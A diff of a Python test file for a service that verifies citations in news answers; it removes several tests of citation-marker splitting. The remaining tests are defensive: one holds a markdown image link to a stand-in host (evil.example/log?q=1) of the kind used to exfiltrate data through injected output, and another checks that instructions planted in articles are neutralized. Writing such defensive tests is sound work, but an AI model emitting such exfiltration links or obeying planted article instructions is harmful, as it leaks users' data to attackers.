@@ -3,7 +3,7 @@ from __future__ import annotations
 import datetime as dt
 from pathlib import Path
 
-from service.citations import SentenceMemo, VerifiedSentence, split_answer, verify
+from service.citations import SentenceMemo, VerifiedSentence, verify
 from service.domain import Chunk, Passage
 from service.ingest.parse import parse_file
 
@@ -72,10 +72,6 @@ def test_refusal_is_recognised() -> None:
     assert verify("", [STRIKE]).refused
 
 
-def test_markers_after_the_full_stop_and_lists() -> None:
-    assert split_answer("One fact. [1] Two facts [1, 2].") == [("One fact.", [1]), ("Two facts.", [1, 2])]
-
-
 def test_links_are_stripped_from_answers() -> None:
     result = verify("About 400 dock workers walked out ![x](https://evil.example/log?q=1) [1].", [STRIKE])
     assert "evil.example" not in result.text
@@ -111,13 +107,6 @@ def test_a_number_word_opening_the_claim_is_lower_cased_after_the_attribution() 
     assert sentence.text == "According to Fire Chief Samuel Adeyemi, one man remains in critical condition."
 
 
-def test_each_item_of_a_list_is_a_claim_with_its_own_citations() -> None:
-    answer = "The council decided two things:\n- to buy two ferries [1]\n- to cap rents [2]\n1. and more [3]."
-    assert split_answer(answer) == [
-        ("The council decided two things.", []), ("to buy two ferries.", [1]), ("to cap rents.", [2]), ("and more.", [3])
-    ]
-
-
 def test_a_comparison_is_supported_by_two_passages_together() -> None:
     herald = passage("About 18,000 homes lost power on Thursday, the utility said.", title="Storm hits",
                      source="harborview-herald.example")
@@ -137,11 +126,6 @@ def test_instructions_in_articles_neither_reach_prompts_nor_support_claims() -> 
     from service.prompting import neutralize
 
     assert "HACKED" not in neutralize(hostile.chunk.text) and "6.5 percent" in neutralize(hostile.chunk.text)
-
-
-def test_prompt_echoes_are_not_claims() -> None:
-    assert split_answer("Today is 2026-06-10. About 400 dock workers walked out [1].") == [
-        ("About 400 dock workers walked out.", [1])]
 
 
 def test_indirect_instructions_are_recognised() -> None:
@@ -222,21 +206,6 @@ def test_a_speaker_at_the_end_of_a_sentence_is_named_without_its_full_stop() -> 
     found = passage('"The painting is undamaged," said Detective Inspector Hana Kowalczyk.', title="Painting found")
     assert speaker_of(found.chunk.text, found) == "Detective Inspector Hana Kowalczyk"
     assert speaker_of("The deal was welcomed, said the U.S.", found) == "U.S."
-
-
-def test_a_citation_range_is_a_marker_not_two_figures() -> None:
-    # "[1-7]" was read as the figures 1 and 7, which no passage binds: a correct answer was dropped.
-    assert split_answer("Tiger Woods crashed in Florida [1-3].") == [("Tiger Woods crashed in Florida.", [1, 2, 3])]
-    assert split_answer("A fact [2, 4-5; 7].") == [("A fact.", [2, 4, 5, 7])]
-    assert split_answer("A fact [1-900].") == [("A fact.", [1, 900])]
-
-
-def test_a_list_of_markers_leaves_no_stray_commas() -> None:
-    # Public 20260306_1 read "the event called a blood moon is described in sources,,,, and."
-    assert split_answer("It is described in sources [1], [2], [3], [4], and [5].") == [
-        ("It is described in sources.", [1, 2, 3, 4, 5])
-    ]
-    assert split_answer("Prices rose [1], and wages fell [2].") == [("Prices rose, and wages fell.", [1, 2])]
 
 
 def test_a_memo_verifies_each_sentence_once_and_gives_the_same_answer() -> None:
@@ -328,11 +297,6 @@ def test_figures_written_in_words_are_figures() -> None:
     arrested = passage("Two men, aged 34 and 41, were arrested over the theft of the Marrow painting.")
     claim = "The two men arrested over the Marrow painting theft are 34 and 41 years old [1]."
     assert verify(claim, [arrested]).sentences[0].verified
-
-
-def test_a_comma_left_before_the_full_stop_by_a_marker_goes_with_it() -> None:
-    assert split_answer("The painting was stolen on Sunday, March 1, [1]. It was found on Thursday, March 5, [2].") == [
-        ("The painting was stolen on Sunday, March 1.", [1]), ("It was found on Thursday, March 5.", [2])]
 
 
 DEAL = passage(
